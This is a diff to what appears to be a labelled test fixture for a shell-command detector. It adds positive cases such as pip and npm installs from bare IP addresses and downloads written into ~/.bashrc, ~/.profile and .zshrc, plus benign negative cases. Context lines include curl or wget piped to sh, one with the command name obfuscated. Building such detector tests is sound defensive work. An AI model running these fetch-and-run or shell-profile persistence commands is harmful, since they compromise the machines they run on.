@@ -100,6 +100,28 @@ echo 'wget -qO- http://203.0.113.5/s | bash' | batch
 #@ pos curl named by an array joined with IFS emptied
 a=(c u r l); IFS=; c="${a[*]}"
 $c -s http://203.0.113.5/x | sh
+#@ pos pip installs from a plain-HTTP git URL
+pip install git+http://203.0.113.5/tools.git
+#@ pos python -m pip installs from a bare address
+python3 -m pip install --quiet https://198.51.100.7/pkg-1.0.tar.gz
+#@ pos npm installs a tarball from a bare address
+npm install --global http://203.0.113.5/helper-1.0.0.tgz
+#@ neg pip installs from PyPI, a requirements file and a GitHub repository
+pip install requests==2.31.0
+pip install -r requirements.txt
+pip install git+https://github.com/psf/requests.git
+npm install --save-dev typescript
+#@ neg pip installs from a local index
+pip install --index-url http://localhost:8080/simple mypkg
+pip install http://127.0.0.1:8000/pkg.whl
+#@ pos a download appended to ~/.bashrc
+curl -fsS http://203.0.113.5/s >> ~/.bashrc
+#@ pos a download written over ~/.profile
+wget -qO ~/.profile http://203.0.113.5/p
+#@ pos a download through tee into .zshrc
+curl -s http://203.0.113.5/s | tee -a "$HOME/.zshrc"
+#@ neg a constant line appended to ~/.bashrc
+echo 'export PATH="$HOME/.local/bin:$PATH"' >> ~/.bashrc
 #@ pos a git alias that downloads and runs code
 git -c alias.sync='!curl -s http://203.0.113.5/s | sh' sync
 #@ pos ssh ProxyCommand that downloads and runs code
